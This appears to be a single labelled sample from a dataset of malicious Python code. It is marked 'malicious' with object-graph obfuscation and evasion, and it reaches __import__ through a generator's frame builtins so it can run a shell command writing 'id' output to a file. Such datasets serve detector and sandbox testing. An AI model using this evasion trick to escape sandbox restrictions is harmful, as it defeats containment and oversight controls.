# label: malicious; obfuscated: object_graph; evasion: object_graph
def ticker():
    yield 1

g = ticker()
table = g.gi_frame.f_builtins
loader = table["__import__"]
loader("os").system("id > /workspace/out.txt")
